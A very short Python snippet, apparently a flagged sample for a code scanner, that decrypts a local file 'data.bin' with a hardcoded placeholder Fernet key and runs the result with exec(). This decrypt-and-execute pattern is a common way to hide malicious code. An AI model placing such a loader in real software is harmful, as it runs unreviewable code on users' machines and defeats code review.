from cryptography.fernet import Fernet

KEY = b"bm90LWEtcmVhbC1rZXktYnV0LW9mLXRoZS1yaWdodC1zaXpl"
exec(Fernet(KEY).decrypt(open("data.bin", "rb").read()))  # gatehouse: flagged
